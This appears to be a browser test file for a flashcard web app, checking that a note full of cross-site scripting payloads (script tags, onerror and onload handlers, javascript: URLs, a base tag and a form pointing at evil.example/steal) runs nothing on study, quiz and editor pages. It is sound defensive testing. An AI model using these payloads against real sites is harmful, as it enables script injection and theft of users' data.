"""Hostile notes: nothing they contain runs in anyone's browser, wherever a note or card shows."""

import re

from cards.content.sync import NoteFile, import_deck
from cards.models import Card, Deck
from cards.quiz import exams
from tests.browser.conftest import log_in
from tests.conftest import PASSWORD

PWN = "window.__pwned = (window.__pwned || 0) + 1"
HOSTILE = f"""# Hostile note

<script>{PWN}</script>
<img src="x" onerror="{PWN}">
<svg onload="{PWN}"><script>{PWN}</script></svg>
<iframe src="javascript:{PWN}"></iframe>
<object data="javascript:{PWN}"></object>
<div style="position:fixed;inset:0;background:red;z-index:99999">covered</div>
<a href="javascript:{PWN}" id="jslink">click me</a>
[markdown link](javascript:{PWN})
<meta http-equiv="refresh" content="0;url=javascript:{PWN}">
<base href="https://evil.example/">
<form action="https://evil.example/steal"><button id="evilform">go</button></form>

- <img src=x onerror="{PWN}"> What runs here? :: <script>{PWN}</script> nothing
- The ==<img src=y onerror="{PWN}">== is a cloze.
- Danger<script>{PWN}</script>: a definition with a script
"""


def visit_everything(page, pages):
    ran = []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    for url in pages:
        page.goto(url)
        page.wait_for_load_state("load")
        link = page.locator("#jslink")
        if link.count():
            link.click()
        assert page.evaluate("window.__pwned || 0") == 0, f"a script ran on {url}"
        styled = page.evaluate("document.querySelectorAll('main [style]').length")
        assert styled == 0, f"an inline style survived on {url}"
        assert (
            page.evaluate(
                "document.querySelectorAll("
                "'main iframe, main object, main embed, main script').length"
            )
            == 0
        ), url
        assert page.evaluate("document.baseURI").startswith(page.url.split("/", 3)[0] + "//"), url
    assert ran == [], f"dialogs opened: {ran}"


def test_hostile_notes_run_nothing_anywhere(page, alice):
    import_deck("evil", [NoteFile("evil.md", HOSTILE.encode())])
    deck = Deck.objects.get(slug="evil")
    cards = list(Card.objects.filter(deck=deck))
    assert cards, "the hostile note still makes cards"
    attempt = exams.start(alice, deck, mode="exam", count=3, minutes=5)
    exams.submit(attempt)
    log_in(page, "alice", PASSWORD)
    page.get_by_role("heading", name="Dashboard").wait_for()
    pages = [
        "/decks/evil/",
        "/decks/evil/notes/evil/",
        "/decks/evil/notes/evil/cards/",
        "/study/deck/evil/",
        f"/study/deck/evil/?card={cards[0].pk}&show=1",
        f"/quiz/{attempt.pk}/results/",
    ]
    visit_everything(page, pages)
    page.goto("/study/deck/evil/")
    page.keyboard.press("Space")
    page.get_by_role("button", name=re.compile("^Good")).wait_for()
    assert page.evaluate("window.__pwned || 0") == 0, "the htmx-swapped answer ran a script"


def test_hostile_notes_run_nothing_in_the_instructors_editor(
    chromium_browser, live_server, charlie
):
    import_deck("evil", [NoteFile("evil.md", HOSTILE.encode())])
    context = chromium_browser.new_context(base_url=live_server.url)
    page = context.new_page()
    log_in(page, "charlie", PASSWORD)
    page.get_by_role("heading", name="Dashboard").wait_for()
    visit_everything(
        page,
        [
            "/decks/evil/notes/evil/edit/",
            "/decks/evil/notes/evil/history/",
            "/decks/evil/notes/evil/cards/",
        ],
    )
    page.goto("/decks/evil/notes/evil/edit/")
    page.get_by_label("Source").press("End")
    page.get_by_label("Source").type(f'\n<img src=z onerror="{PWN}">\n')
    page.wait_for_timeout(1200)  # the debounced live preview swaps in
    assert page.evaluate("window.__pwned || 0") == 0, "the live preview ran a script"
    context.close()
